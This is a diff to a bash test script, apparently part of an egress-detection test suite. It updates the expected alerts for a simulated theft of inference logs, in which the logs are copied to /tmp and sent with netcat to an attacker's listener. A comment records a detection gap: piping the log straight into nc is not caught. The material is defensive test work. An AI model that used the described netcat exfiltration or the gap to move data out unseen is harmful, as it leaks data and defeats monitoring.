@@ -1,11 +1,10 @@
 #!/bin/bash
 # title: inference logs copied to /tmp, then exported with netcat to an attacker's listener
-# expect-monitor: unexpected_egress log_export
-# expect-enforce: unexpected_egress
+# expect-monitor: unexpected_egress log_export tool_egress
+# expect-enforce: unexpected_egress tool_egress
 # block: zero
 # target: drop
-# not expected: tool_egress (fires for nc only sometimes, and then for its DNS query), see
-# tests/lab/README.md. The copy comes first: `nc < inference.log` alone is not caught (the read
+# The copy comes first: `nc < inference.log` alone is not caught (the read
 # totals of nc reach the agent at its exit, after the flow was judged).
 source "$(dirname "$0")/../lib.sh"
 if command -v nc >/dev/null; then
